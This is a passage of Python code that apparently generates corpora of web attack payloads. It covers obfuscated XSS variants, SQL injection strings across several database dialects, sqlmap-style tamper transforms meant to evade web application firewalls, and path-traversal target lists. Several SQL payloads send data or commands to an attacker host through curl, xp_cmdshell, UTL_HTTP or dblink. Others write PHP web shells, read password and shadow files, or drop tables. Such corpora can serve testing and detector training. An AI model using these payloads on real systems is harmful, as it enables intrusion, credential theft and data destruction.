                            f"(()=>{{}}).constructor({q}{call}{q})()", f"Function({q}{call}{q})()", f"new Function`{call}```",
                            f"[].constructor.constructor({q}{call}{q})()", f"({{}}).constructor.constructor({q}{call}{q})()", f"setTimeout({q}{call}{q})",
                            f"setInterval({q}{call}{q},9e9)", f"Reflect.construct(Function,[{q}{call}{q}])()"])
            fam = "js-function-constructor"
        elif k == 3:
            i = rng.randint(1, len(fn) - 1)
            obj = rng.choice(["top", "window", "self", "parent", "frames", "globalThis", "this", "content"])
            q = rng.choice(["'", '"', "`"])
            s = rng.choice([f"{obj}[{q}{fn[:i]}{q}+{q}{fn[i:]}{q}]({arg})", f"{obj}[{q}{fn[::-1]}{q}.split({q}{q}).reverse().join({q}{q})]({arg})",
                            f"{obj}[atob({q}{base64.b64encode(fn.encode()).decode()}{q})]({arg})", f"{obj}[{q}\\x{ord(fn[0]):02x}{fn[1:]}{q}]({arg})",
                            f"{obj}[String.fromCharCode({','.join(str(ord(c)) for c in fn)})]({arg})", f"{obj}[/{fn}/.source]({arg})",
                            f"{obj}[{q}{fn}{q}]({arg})", f"{obj}[(({q}{fn[:i]}{q}))+(({q}{fn[i:]}{q}))]({arg})"])
            fam = "js-string-split"
        elif k == 4:
            s = rng.choice([f"{fn}`{arg}`", f"{fn}`${{{arg}}}`", f"({fn})({arg})", f"[{arg}].find({fn})", f"[{arg}].map({fn})", f"{fn}.call(null,{arg})",
                            f"{fn}.apply(null,[{arg}])", f"Reflect.apply({fn},null,[{arg}])", f"(0,{fn})({arg})", f"{fn}?.({arg})", f"new Promise({fn})",
                            f"onerror={fn};throw {arg}", f"{{onerror={fn}}}throw {arg}", f"throw onerror={fn},{arg}", f"[{arg}].forEach({fn})",
                            f"valueOf=({fn});{arg}", f"x={fn},x({arg})", f"with(document){fn}({arg})"])
            fam = "js-call-tricks"
        elif k == 5:
            u = "".join("\\u%04x" % ord(c) if rng.random() < 0.6 else c for c in fn)
            s = rng.choice([f"{u}({arg})", f"\\u{{{ord(fn[0]):x}}}{fn[1:]}({arg})", f"eval('" + "".join("\\x%02x" % ord(c) for c in call) + "')",
                            f"eval('" + "".join("\\u%04x" % ord(c) for c in call) + "')", f"eval(atob('{base64.b64encode(call.encode()).decode()}'))",
                            f"eval(String.fromCharCode({','.join(str(ord(c)) for c in call)}))", f"eval(unescape('{_pct_all(call)}'))",
                            f"eval(decodeURIComponent('{_pct_all(call)}'))", f"location='javascript:{_pct_all(call)}'",
                            f"eval(" + "+".join(f"'{ch}'" for ch in call) + ")", f"Function(atob`{base64.b64encode(call.encode()).decode()}`)()"])
            fam = "js-escape"
        elif k == 6:
            s = rng.choice([f"javascript:{call}", f"jaVasCript:{call}", f"JAVASCRIPT:{call}", f"java\tscript:{call}", f"java\nscript:{call}",
                            f"java%09script:{call}", f"java%0ascript:{call}", f"java%0dscript:{call}", f"jav&#x09;ascript:{call}", f"  javascript:{call}",
                            f"\x01javascript:{call}", f"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{call}", f"javascript&colon;{call}",
                            f"javascript://%0a{call}", f"javascript://{_evil_domain(rng)}/%0a{call}", f"javascript:/*-->*/{call}",
                            f"j%00avascript:{call}", f"java\x00script:{call}", f"data:text/html,<script>{call}</script>",
                            f"data:text/html;base64,{base64.b64encode(('<script>' + call + '</script>').encode()).decode()}"])
            fam = "js-uri"
        elif k == 7:
            s = rng.choice([f"\\u0061lert(1)", f"a\\u006cert(1)", f"al\\u0065rt`1`", f"[1].find(alert)", f"alert?.(1)", f"(alert)`1`",
                            f"top.alert(1)", f"window.alert?.(1)", f"self['\\x61lert'](1)", f"globalThis[`al${{''}}ert`](1)"])
            fam = "js-tiny"
        elif k == 8:
            # jjencode/aaencode-flavoured variable soup, written from the idea of symbol-only identifiers
            v = rng.choice(["$", "_", "$$", "_$", "$_", "__", "ﾟωﾟ", "ﾟДﾟ", "ᅠ"])
            s = rng.choice([f"{v}=~[];{v}={{___:++{v},$$$$:(![]+\"\")[{v}],__$:++{v}}};{v}.$_=({v}.$_={v}+\"\")[{v}.$_$]+({v}._$={v}.$_[{v}.__$]);{v}.$({v}.$(\"{call}\")())()",
                            f"{v}=[]['filter']['constructor'];{v}('{call}')()", f"{v}={{}};{v}.{v}=Function;{v}.{v}('{call}')()",
                            f"ﾟωﾟﾉ= /｀ｍ´）ﾉ ~┻━┻ //*´∇｀*/ ['_']; o=(ﾟｰﾟ) =_=3; c=(ﾟΘﾟ) =(ﾟｰﾟ)-(ﾟｰﾟ); (ﾟДﾟ)[ﾟoﾟ]('{call}')"])
            fam = "js-symbol-soup"
        elif k == 9:
            s = rng.choice([f"<script>{call}</script>", f"<img src=x onerror=\"{call}\">", f"<svg/onload={call}>", f"\"><script>{call}</script>"])
            s = re.sub(r"[a-z]+", lambda m: _rand_case(rng, m.group(0)) if m.group(0) in ("script", "img", "src", "onerror", "svg", "onload") else m.group(0), s)
            fam = "js-html-case"
        elif k == 10:
            s = rng.choice([f"';{call};//", f"\";{call};//", f"'-{call}-'", f"\"-{call}-\"", f"\\';{call}//", f"</script><script>{call}</script>",
                            f"'}};{call};//", f"${{{call}}}", f"'+{call}+'", f"\\\"-{call}}}//"])
            fam = "js-string-breakout"
        else:
            s = rng.choice([f"eval(location.hash.slice(1))", f"eval(location.hash.substr(1))", f"eval(decodeURI(location.hash.slice(1)))",
                            f"document.write(location.hash)", f"setTimeout(name)", f"eval(window.name)", f"import(location.hash.slice(1))",
                            f"Function(document.referrer.slice(-9))()", f"document.body.innerHTML=decodeURIComponent(location.search)",
                            f"eval(document.cookie.split('x=')[1])", f"new Function(location.search.slice(1))()", f"$.globalEval(location.hash.slice(1))"])
            fam = "js-dom-source"
        if s is None:
            return None
        return Payload("xss", s, "gen", f"xss:{fam}", "any")
    return _collect(rng, n, make)


# ------------------------------------------------------------------------------------ 5. SQL (sqli)

_SQL_CTX = [("'", "'"), ('"', '"'), ("')", "'"), ("'))", "'"), ('")', '"'), ("", ""), ("1", ""), ("-1", ""), ("1)", ""), ("1))", ""),
            ("admin'", "'"), ("x'", "'"), ("%'", "'"), ("99999", ""), ("0", ""), ("1'", "'"), ("test')", "'"), ("null", "")]
_SQL_END = ["-- ", "--", "-- -", "--+", "#", "/*", ";--", ";", "%00", "", "", "", ";#", "-- x", "/*!*/"]
_SQL_COLS = ["NULL", "1", "2", "version()", "user()", "database()", "@@version", "current_user", "banner", "sqlite_version()", "table_name",
             "column_name", "username", "password", "name", "@@datadir", "current_database()", "db_name()", "system_user", "'x'", "0x" + "61646d696e"]


def _sql_dialect_core(rng: random.Random) -> tuple[str, str]:
    n = rng.randint(2, 20)
    a = rng.randint(1, 9999)
    b = a if rng.random() < 0.5 else rng.randint(1, 9999)
    h = _attacker_host(rng)
    cols = ",".join(rng.choice(_SQL_COLS) for _ in range(rng.randint(1, 6)))
    d = rng.randrange(8)
    if d == 0:
        return "pg", rng.choice([
            f"AND 1=(SELECT 1 FROM pg_sleep({n}))", f"||pg_sleep({n})--", f"; SELECT pg_sleep({n})", f"AND {a}=(SELECT {a} FROM PG_SLEEP({n}))",
            f"OR data->>'role'='admin'", f"OR info->>'is_admin'='true'", f"OR payload#>>'{{user,role}}'='admin'", f"AND '{{\"a\":1}}'::jsonb @> '{{\"a\":1}}'::jsonb",
            f"OR '{{\"a\":1}}'::jsonb ?| array['a','b']", f"OR attrs ?& array['admin']", f"OR meta @> '{{\"admin\":true}}'", f"OR doc#>'{{a}}' IS NOT NULL",
            f"UNION SELECT $${_rs(rng)}$$,NULL--", f"; COPY (SELECT '') TO PROGRAM $${_fill_cmd(rng, 'curl {u}')}$$", f"AND 1=CAST(version() AS int)",
            f"AND version()::int=1", f"AND (SELECT current_setting($$is_superuser$$))::text='on'", f"AND 1=(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/(SELECT 0) END)",
            f"UNION SELECT NULL,chr(65)||chr(66)||chr(67)", f"AND substr(current_database(),1,1)='p'", f"UNION SELECT pg_read_file('/etc/passwd'),NULL",
            f"; CREATE TABLE t{a}(o text); COPY t{a} FROM PROGRAM 'id'", f"AND query_to_xml('select 1',true,true,'') IS NOT NULL", f"AND (SELECT lo_import('/etc/passwd'))>0",
            f"UNION SELECT usename,passwd FROM pg_shadow", f"AND {a}::text={b}::text", f"AND $tag${a}$tag$::int={a}", f"AND 1=1::int",
            f"OR 1=1 AND to_json(current_user)::text LIKE '%'", f"AND (SELECT string_agg(tablename,',') FROM pg_tables) IS NOT NULL",
            f"; SELECT dblink_connect('host={h} user=x')", f"AND jsonb_path_exists('{{}}'::jsonb,'$')"])
    if d == 1:
        return "mysql", rng.choice([
            f"OR 1<=>1", f"AND {a}<=>{b}", f"XOR 1", f"xor sleep({n}) xor", f"'xor(if(now()=sysdate(),sleep({n}),0))xor'", f"AND {a} DIV {b}={a // max(b, 1)}",
            f"OR 5 DIV 2=2", f"/*!50000UNION*/ /*!50000SELECT*/ {cols}", f"/*!50000select*/ {cols}", f"/*!12345UNION SELECT*/ {cols}", f"UNION/*!SELECT*/ {cols}",
            f"AND extractvalue(1,concat(0x7e,(SELECT {rng.choice(['user()', 'version()', 'database()'])})))", f"AND updatexml(null,concat(0x3a,(SELECT @@version)),null)",
            f"PROCEDURE ANALYSE(extractvalue(rand(),concat(0x3a,version())),1)", f"PROCEDURE ANALYSE()", f"AND elt({a}={a},sleep({n}))",
            f"AND make_set({a}={b},sleep({n}))", f"RLIKE (SELECT (CASE WHEN ({a}={b}) THEN 1 ELSE 0x28 END))", f"AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(0x7e,version(),FLOOR(RAND(0)*2))x FROM information_schema.plugins GROUP BY x)a)",
            f"UNION SELECT {cols} INTO OUTFILE '/var/www/html/{_rs(rng)}.php'", f"UNION SELECT '<?php system($_GET[c]);?>' INTO DUMPFILE '/var/www/{_rs(rng)}.php'",
            f"AND MID(@@version,1,1)='8'", f"AND ORD(MID(user(),1,1))>{rng.randint(60, 120)}", f"AND json_extract('{{\"a\":1}}','$.a')=1",
            f"AND gtid_subset(concat(0x7e,user()),1)", f"AND exp(~(SELECT * FROM (SELECT user())x))", f"OR IF(1=1,SLEEP({n}),0)", f"AND BENCHMARK({n}000000,SHA1(1))",
            f"UNION ALL SELECT {cols} FROM information_schema.tables WHERE table_schema=database()", f"AND (SELECT 1)=1 LIMIT 1 INTO @,@", f"OR '1'-'1'=0",
            f"AND 0x{_rs(rng, 6, '0123456789abcdef')}=0x{_rs(rng, 6, '0123456789abcdef')}", f"AND {a}=ABS({a})", f"GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)"])
    if d == 2:
        return "mssql", rng.choice([
            f"; WAITFOR DELAY '0:0:{n}'", f"WAITFOR DELAY '00:00:{n:02d}'", f"IF(1=1) WAITFOR DELAY '0:0:{n}'", "; EXEC xp_cmdshell '" + rng.choice(['whoami', 'ping ' + h, 'dir c:\\']) + "'",
            f";exec master..xp_cmdshell 'nslookup {h}'", f"; EXEC master.dbo.xp_dirtree '\\\\{h}\\x'", f"; EXEC sp_configure 'xp_cmdshell',1;RECONFIGURE",
            f"AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))", f"AND 1=CONVERT(int,@@version)", f"+(SELECT @@version)+",
            f"; DECLARE @x VARCHAR(99);SET @x=0x{_rs(rng, 12, '0123456789abcdef')};EXEC(@x)", f"UNION SELECT name,NULL FROM master..sysdatabases",
            f"AND (SELECT COUNT(*) FROM sys.objects)>0", f"AND db_name()='{_rs(rng)}'", f"AND SUBSTRING(SYSTEM_USER,1,1)='s'", f"AND IS_SRVROLEMEMBER('sysadmin')=1",
            f"; SELECT * FROM OPENROWSET('SQLOLEDB','server={h};uid=sa;pwd=x','select 1')", f"; EXEC sp_OACreate 'WScript.Shell',@o OUT", f"UNION SELECT {cols} FROM sys.databases--",
            f"AND 1=(SELECT 1 WHERE 1 IN (SELECT TOP 1 password FROM users))", f"; SHUTDOWN WITH NOWAIT", f"ORDER BY 1 WAITFOR DELAY '0:0:{n}'", f"AND HOST_NAME()>''"])
    if d == 3:
        return "oracle", rng.choice([
            f"AND 1=DBMS_PIPE.RECEIVE_MESSAGE('{_rs(rng, 3)}',{n})", f"||DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),{n})||", f"AND {a}=DBMS_PIPE.RECEIVE_MESSAGE(CHR(99)||CHR(120),{n})",
            f"||UTL_HTTP.REQUEST('http://{h}/'||(SELECT user FROM dual))||", f"AND UTL_INADDR.GET_HOST_NAME((SELECT banner FROM v$version WHERE rownum=1))=1",
            f"UNION SELECT NULL,banner FROM v$version", f"UNION SELECT username,password FROM all_users", f"AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))",
            f"AND (SELECT dbms_xmlgen.getxml('select user from dual') FROM dual) IS NOT NULL", f"AND ROWNUM=1", f"AND (SELECT COUNT(*) FROM all_tables)>0",
            f"AND 1=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||(SELECT user FROM dual)||CHR(62))) FROM dual)", f"AND DBMS_LDAP.INIT('{h}',389) IS NOT NULL",
            f"AND SYS.DBMS_LOCK.SLEEP({n}) IS NULL", f"UNION SELECT table_name,NULL FROM all_tables WHERE ROWNUM<{n}", f"AND SUBSTR((SELECT user FROM dual),1,1)='S'",
            f"AND HTTPURITYPE('http://{h}/').GETCLOB() IS NOT NULL", f"AND 1=UTL_HTTP.REQUEST('http://{h}/x')"])
    if d == 4:
        return "sqlite", rng.choice([
            f"AND {a}=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB({n}00000000/2))))", f"AND randomblob({n}00000000)", f"UNION SELECT sql,NULL FROM sqlite_master",
            f"UNION SELECT name,{cols} FROM sqlite_master WHERE type='table'", f"AND sqlite_version() LIKE '3%'", f"AND substr(sqlite_version(),1,1)='3'",
            f"AND unicode(substr((SELECT name FROM sqlite_master),1,1))>{rng.randint(60, 120)}", f"; ATTACH DATABASE '/var/www/{_rs(rng)}.php' AS x; CREATE TABLE x.y(d text)",
            f"AND 1=load_extension('/tmp/{_rs(rng)}.so')", f"AND typeof(1)='integer'", f"AND glob('*',{a})", f"AND zeroblob({n}00000000)", f"AND hex(randomblob(8))<>''",
            f"UNION SELECT group_concat(tbl_name),NULL FROM sqlite_master"])
    if d == 5:
        # boolean pairs: a true and a false form of the same probe
        t = rng.choice(["AND {a}={a}", "AND {a}={b}", "OR {a}={a}", "AND '{s}'='{s}", "AND '{s}'='{t}", "AND {a}>{c}", "AND NOT {a}={b}", "AND {a} IN ({a})",
                        "AND {a} BETWEEN {c} AND {a}", "AND {a}-{c}={d}", "AND ASCII('{s}')={o}", "AND LENGTH('{s}')={l}", "AND '{s}' LIKE '{s}%", "OR NOT {a}<>{a}",
                        "AND ({a})=({a})", "AND 0x{x}=0x{x}", "AND {a}*1={a}", "AND TRUE", "AND FALSE", "AND 1", "AND 0", "AND !!{a}"])
        s = rng.choice("abcdefghijklmnopqrstuvwxyz")
        c = rng.randint(0, a - 1) if a > 1 else 0
        return "boolean", (t.replace("{a}", str(a)).replace("{b}", str(b + 1)).replace("{c}", str(c)).replace("{d}", str(a - c))
                           .replace("{s}", s).replace("{t}", rng.choice("abcdefghijklmnopqrstuvwxyz")).replace("{o}", str(ord(s)))
                           .replace("{l}", "1").replace("{x}", _rs(rng, 4, "0123456789abcdef")))
    if d == 6:
        return "structure", rng.choice([
            f"ORDER BY {n}", f"ORDER BY {n}--", f"ORDER BY {n}#", f"GROUP BY {n}", f"GROUP BY 1,2 HAVING 1=1", f"HAVING {a}={a}", f"HAVING 1=0",
            f"ORDER BY (SELECT 1)", f"ORDER BY IF(1=1,1,(SELECT 1 UNION SELECT 2))", f"ORDER BY CASE WHEN 1=1 THEN 1 ELSE 2 END", f"LIMIT 1,1",
            f"UNION SELECT {cols}", f"UNION ALL SELECT {cols}", f"UNION DISTINCT SELECT {cols}", f"UNION SELECT {cols} FROM users", f"INTO @a,@b,@c",
            f"; SELECT {cols}", f"; UPDATE users SET role='admin' WHERE id={a}", f"; DROP TABLE {rng.choice(['users', 'sessions', 'orders', 'logs'])}",
            f"; INSERT INTO users VALUES('{_rs(rng)}','{_rs(rng)}')", f"; DELETE FROM {rng.choice(['users', 'audit', 'orders'])}", f"; TRUNCATE {rng.choice(['logs', 'audit'])}",
            f"; CREATE USER {_rs(rng)} WITH PASSWORD '{_rs(rng)}'", f"; ALTER TABLE users ADD {_rs(rng)} text", f"; GRANT ALL ON *.* TO '{_rs(rng)}'@'%'"])
    return "generic", rng.choice([
        f"OR 1=1", f"OR '{rng.choice('ab')}'='{rng.choice('ab')}", f"OR {a}={a}", f"OR SLEEP({n})", f"AND SLEEP({n})", f"OR TRUE", f"OR 1 LIKE 1",
        f"AND (SELECT COUNT(*) FROM users)>0", f"AND EXISTS(SELECT * FROM information_schema.tables)", f"OR username IS NOT NULL", f"OR 'x' IN ('x')",
        f"AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),{rng.randint(1, 20)},1))>{rng.randint(40, 120)}", f"OR (SELECT {a})={a}",
        f"AND CHAR({rng.randint(65, 90)})=CHAR({rng.randint(65, 90)})", f"UNION SELECT {cols}"])


# --- augmentation: tamper-style transforms (own implementation of the widely described ideas) ----

_SQL_KW = ["UNION", "SELECT", "ALL", "DISTINCT", "FROM", "WHERE", "AND", "OR", "XOR", "NOT", "ORDER", "GROUP", "BY", "HAVING", "LIMIT", "OFFSET",
           "INSERT", "INTO", "VALUES", "UPDATE", "SET", "DELETE", "DROP", "TABLE", "EXEC", "EXECUTE", "WAITFOR", "DELAY", "SLEEP", "BENCHMARK",
           "CASE", "WHEN", "THEN", "ELSE", "END", "IF", "LIKE", "BETWEEN", "IN", "IS", "NULL", "CONCAT", "CHAR", "CAST", "CONVERT", "SUBSTRING",
           "ASCII", "VERSION", "USER", "DATABASE", "INFORMATION_SCHEMA", "TABLES", "COLUMNS", "EXTRACTVALUE", "UPDATEXML", "PROCEDURE", "ANALYSE",
           "PG_SLEEP", "DECLARE", "EXISTS", "COUNT", "MID", "ORD", "DIV", "RLIKE", "REGEXP", "OUTFILE", "LOAD_FILE"]
_KW_RE = re.compile(r"\b(" + "|".join(sorted(_SQL_KW, key=len, reverse=True)) + r")\b", re.I)
_FUNC_RE = re.compile(r"\b([A-Za-z_][A-Za-z_0-9]*)\(")


def _t_space(rep):
    def f(rng, s):
        return re.sub(r" +", lambda m: rep(rng), s)
    return f


def _t_equaltolike(rng, s):
    return re.sub(r"(?<![<>!:])=(?!=)", " LIKE ", s)


def _t_between(rng, s):
    s = re.sub(r"(\w+|'[^']*')\s*>\s*(\w+)", lambda m: f"{m.group(1)} NOT BETWEEN 0 AND {m.group(2)}", s)
    return re.sub(r"(\w+|'[^']*')\s*=\s*(\w+|'[^']*')", lambda m: f"{m.group(1)} BETWEEN {m.group(2)} AND {m.group(2)}", s, count=1)


def _t_greatest(rng, s):
    return re.sub(r"(\w+)\s*>\s*(\w+)", lambda m: f"GREATEST({m.group(1)},{m.group(2)}+1)={m.group(1)}", s)


def _t_randomcase(rng, s):
    return _KW_RE.sub(lambda m: _rand_case(rng, m.group(0)), s)


def _t_charencode(rng, s):
    return _pct_all(s)


def _t_chardoubleencode(rng, s):
    return "".join("%%25%02X" % b for b in s.encode())


def _t_charunicode(rng, s):
    return "".join("%%u%04X" % ord(c) for c in s)


def _t_apostrophemask(rng, s):
    return s.replace("'", "%EF%BC%87")


def _t_apostrophenull(rng, s):
    return s.replace("'", "%00%27")


def _t_cbp(rng, s):
    return _FUNC_RE.sub(lambda m: m.group(1) + rng.choice(["/**/(", "/*x*/(", "/**_**/("]), s)


def _t_versioned(rng, s):
    return _KW_RE.sub(lambda m: f"/*!{m.group(0)}*/", s)


def _t_halfversioned(rng, s):
    return _KW_RE.sub(lambda m: f"/*!0{m.group(0)}", s).replace(" /*!0", "/*!0")


def _t_versioned_num(rng, s):
    v = rng.choice(["50000", "50001", "40100", "12345", "44444", "50505"])
    return _KW_RE.sub(lambda m: f"/*!{v}{m.group(0)}*/", s)


def _t_percentage(rng, s):
    return _KW_RE.sub(lambda m: "".join("%" + c for c in m.group(0)), s)


def _t_unmagicquotes(rng, s):
    s2 = s.replace("'", "%bf%27", 1)
    return re.sub(r"(--[ +-]?|#|/\*)\s*$", "", s2) + "-- -"


def _t_lower(rng, s):
    return _KW_RE.sub(lambda m: m.group(0).lower(), s)


def _t_upper(rng, s):
    return _KW_RE.sub(lambda m: m.group(0).upper(), s)


def _t_symbolic(rng, s):
    s = re.sub(r"\bAND\b", "&&", s, flags=re.I)
    return re.sub(r"\bOR\b", "||", s, flags=re.I)


def _t_kwsplit(rng, s):
    def split(m):
        w = m.group(0)
        if len(w) < 4:
            return w
        i = rng.randint(1, len(w) - 1)
        return w[:i] + rng.choice(["/**/", "%00", "/*x*/", "/**/", "%0b"]) + w[i:]
    return _KW_RE.sub(split, s)


def _t_kwdouble(rng, s):
    def dbl(m):
        w = m.group(0)
        i = rng.randint(1, len(w) - 1)
        return w[:i] + w + w[i:]
    return _KW_RE.sub(dbl, s, count=rng.randint(1, 3))


def _t_modsecversioned(rng, s):
    return f"/*!{rng.choice(['30874', '00000', '50000', '12345'])}{s}*/" if not s.rstrip().endswith(("--", "#")) else s.replace(" ", " /*!00000", 1) + "*/"


def _t_nullbyte(rng, s):
    return s + rng.choice(["%00", "%00'", "\x00"])


def _t_escapequotes(rng, s):
    return s.replace("'", "\\'").replace('"', '\\"')


def _t_concatws(rng, s):
    return re.sub(r"\bCONCAT\(", "CONCAT_WS(MID(CHAR(0),0,0),", s, flags=re.I)


def _t_ifnull(rng, s):
    return re.sub(r"\bIFNULL\(([^,]+),([^)]+)\)", r"IF(ISNULL(\1),\2,\1)", s, flags=re.I)


def _t_bluecoat(rng, s):
    return re.sub(r"\b(SELECT|UNION|FROM|WHERE|AND|OR) ", lambda m: m.group(1) + "%09", s, flags=re.I)


def _t_plus2concat(rng, s):
    return re.sub(r"'\+'", "',CONCAT('", s)


def _t_multispace(rng, s):
    return re.sub(r" ", lambda m: " " * rng.randint(1, 5), s)


def _t_hexstrings(rng, s):
    return re.sub(r"'([A-Za-z0-9_]{2,20})'", lambda m: "0x" + m.group(1).encode().hex(), s)


def _t_charfn(rng, s):
    return re.sub(r"'([A-Za-z0-9_]{1,12})'", lambda m: "CHAR(" + ",".join(str(ord(c)) for c in m.group(1)) + ")", s)


_TAMPERS = {
    "space2comment": _t_space(lambda r: "/**/"),
    "space2dash": _t_space(lambda r: "--" + _rs(r, r.randint(3, 10), "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ") + r.choice(["%0A", "\n"])),
    "space2hash": _t_space(lambda r: "#" + _rs(r, r.randint(3, 10)) + r.choice(["%0A", "\n"])),
    "space2plus": _t_space(lambda r: "+"),
    "space2randomblank": _t_space(lambda r: r.choice(["%09", "%0A", "%0C", "%0D", "%0B", "\t", "\n"])),
    "space2mssqlblank": _t_space(lambda r: r.choice(["%01", "%02", "%03", "%04", "%05", "%0E", "%0F", "%1A", "%1F"])),
    "space2morecomment": _t_space(lambda r: "/**_**/"),
    "space2nbsp": _t_space(lambda r: r.choice(["%A0", "%C2%A0", "%E2%80%83"])),
    "space2parenthesis": lambda r, s: re.sub(r"\b(SELECT|AND|OR|WHERE|UNION) (\w)", lambda m: f"{m.group(1)}({m.group(2)}", s, flags=re.I),
    "multiplespaces": _t_multispace, "equaltolike": _t_equaltolike, "between": _t_between, "greatest": _t_greatest,
    "randomcase": _t_randomcase, "lowercase": _t_lower, "uppercase": _t_upper, "charencode": _t_charencode,
    "chardoubleencode": _t_chardoubleencode, "charunicodeencode": _t_charunicode, "apostrophemask": _t_apostrophemask,
    "apostrophenullencode": _t_apostrophenull, "commentbeforeparentheses": _t_cbp, "versionedkeywords": _t_versioned,
    "versionedmorekeywords": _t_versioned_num, "halfversionedmorekeywords": _t_halfversioned, "percentage": _t_percentage,
    "unmagicquotes": _t_unmagicquotes, "symboliclogical": _t_symbolic, "keywordsplit": _t_kwsplit, "keyworddouble": _t_kwdouble,
    "modsecurityversioned": _t_modsecversioned, "appendnullbyte": _t_nullbyte, "escapequotes": _t_escapequotes, "concat2concatws": _t_concatws,
    "ifnull2ifisnull": _t_ifnull, "bluecoat": _t_bluecoat, "plus2concat": _t_plus2concat, "hexstrings": _t_hexstrings, "charfunction": _t_charfn,
}
# transforms that re-encode everything go last, and at most one of them
_T_FINAL = {"charencode", "chardoubleencode", "charunicodeencode", "percentage"}


def _sql_compose(rng: random.Random) -> tuple[str, str]:
    dial, core = _sql_dialect_core(rng)
    pre, _close = rng.choice(_SQL_CTX)
    if core.startswith((";", "||", "+", "/*", "'")) or not pre:
        s = pre + core
    else:
        s = f"{pre} {core}"
    end = rng.choice(_SQL_END)
    if end and not s.rstrip().endswith(("--", "#")):
        s = s + (end if end[0] in ";%`" else " " + end if rng.random() < 0.5 else end)
    elif _close and rng.random() < 0.3 and "'" in pre:
        s = s + f" AND {_close}1{_close}={_close}1"
    return dial, s


def gen_sql_dialects(rng: random.Random, n: int) -> list[Payload]:
    def make(rng):
        dial, s = _sql_compose(rng)
        return Payload("sqli", s, "gen", f"sqli:{dial}", "any")
    return _collect(rng, n, make)


def apply_sql_tampers(rng: random.Random, s: str, k: int | None = None) -> tuple[str, list[str]]:
    """Applies k (1-3) tamper-style transforms; encoders are applied last. Returns (text, names)."""
    k = k or rng.choice([1, 1, 1, 2, 2, 3])
    names = [t for t in sorted(_TAMPERS) if t not in _T_FINAL]
    chosen = rng.sample(names, k)
    if rng.random() < 0.2:
        chosen[-1] = rng.choice(sorted(_T_FINAL))
    # spaces transforms conflict; keep the first
    seen_space = False
    used = []
    for t in chosen:
        if t.startswith("space2") or t in ("multiplespaces", "bluecoat"):
            if seen_space:
                continue
            seen_space = True
        s2 = _TAMPERS[t](rng, s)
        if s2 != s:
            used.append(t)
            s = s2
    return s, used


def gen_sql_tamper(rng: random.Random, n: int) -> list[Payload]:
    def make(rng):
        _, s = _sql_compose(rng)
        s2, used = apply_sql_tampers(rng, s)
        if not used:
            return None
        return Payload("sqli", s2, "gen", "sqli:tamper-" + "+".join(used), "any")
    return _collect(rng, n, make)


# ------------------------------------------------------------------------- 6. LFI / RFI (path_traversal)

_LFI_UNIX = ["etc/passwd", "etc/shadow", "etc/hosts", "etc/group", "etc/issue", "etc/hostname", "etc/crontab", "etc/sudoers", "etc/os-release",
             "etc/mysql/my.cnf", "etc/php/7.4/apache2/php.ini", "etc/apache2/apache2.conf", "etc/httpd/conf/httpd.conf", "etc/nginx/sites-enabled/default",
             "proc/self/environ", "proc/self/cmdline", "proc/self/status", "proc/self/fd/0", "proc/self/fd/{n}", "proc/version", "proc/self/maps",
             "proc/self/cwd/index.php", "proc/1/environ", "root/.ssh/id_rsa", "root/.bash_history", "home/{u}/.ssh/id_rsa", "var/lib/mlocate/mlocate.db",
             "var/run/secrets/kubernetes.io/serviceaccount/token", "usr/local/etc/php/php.ini", "opt/lampp/etc/httpd.conf", "etc/ssh/sshd_config"]
_LFI_LOGS = ["var/log/apache2/access.log", "var/log/apache2/error.log", "var/log/apache/access.log", "var/log/httpd/access_log", "var/log/httpd/error_log",
             "var/log/nginx/access.log", "var/log/nginx/error.log", "var/log/auth.log", "var/log/vsftpd.log", "var/log/mail.log", "var/log/sshd.log",
             "var/lib/php/sessions/sess_{m}", "var/lib/php5/sess_{m}", "tmp/sess_{m}", "var/log/secure", "usr/local/apache/logs/access_log",
             "opt/lampp/logs/access_log", "var/www/logs/access.log", "proc/self/fd/2"]
_LFI_WIN = ["windows/win.ini", "windows/system.ini", "boot.ini", "windows/system32/drivers/etc/hosts", "windows/repair/sam", "windows/system32/config/SAM",
            "inetpub/wwwroot/web.config", "windows/debug/NetSetup.log", "windows/iis6.log", "xampp/apache/conf/httpd.conf", "xampp/php/php.ini",
            "Program Files/Apache Group/Apache/logs/access.log", "windows/panther/unattend.xml", "inetpub/logs/LogFiles/W3SVC1/u_ex{d}.log", "Users/Administrator/NTUser.dat"]
_LFI_APP = ["index.php", "config.php", "wp-config.php", "configuration.php", "config/database.yml", ".env", "app/etc/local.xml", "WEB-INF/web.xml",
            "WEB-INF/classes/application.properties", "settings.py", "config/config.inc.php", "includes/db.php", "../.git/HEAD", "composer.json", "application.yml"]
_TRAV_UNITS = {
    "plain": "../", "backslash": "..\\", "dotdot-dblslash": "....//", "dotdot-dblbackslash": "....\\\\", "enc-slash": "..%2f", "enc-all": "%2e%2e%2f",
    "dblenc-slash": "..%252f", "dblenc-all": "%252e%252e%252f", "overlong-dot": "%c0%ae%c0%ae/", "overlong-slash": "..%c0%af", "overlong-2f": "%c0%2e%c0%2e%c0%2f",
    "utf16": "%u002e%u002e%u2215", "fullwidth": "%uff0e%uff0e/", "enc-backslash": "..%5c", "dblenc-backslash": "..%255c", "dot-enc": "%2e%2e/",
    "dotdotdot": ".../", "dot-slash-mix": "./.././", "semicolon": "..;/", "nul-mid": "..%00/", "triple-slash": "..///", "mixed-slash": "..\\/",
    "dot-enc-half": ".%2e/", "tomcat": "..;/..;/", "iis": "..%c1%1c", "overlong3": "%e0%80%ae%e0%80%ae/", "tab-dot": "..%09/",
}


def _lfi_fill(rng: random.Random, t: str) -> str:
    return (t.replace("{n}", str(rng.randint(0, 20))).replace("{u}", rng.choice(["ubuntu", "www-data", "admin", "user", "ec2-user", "deploy"]))
            .replace("{m}", _rs(rng, 26, "abcdefghijklmnopqrstuv0123456789")).replace("{d}", f"{rng.randint(20, 25)}{rng.randint(1, 12):02d}{rng.randint(1, 28):02d}"))


def gen_lfi(rng: random.Random, n: int) -> list[Payload]:
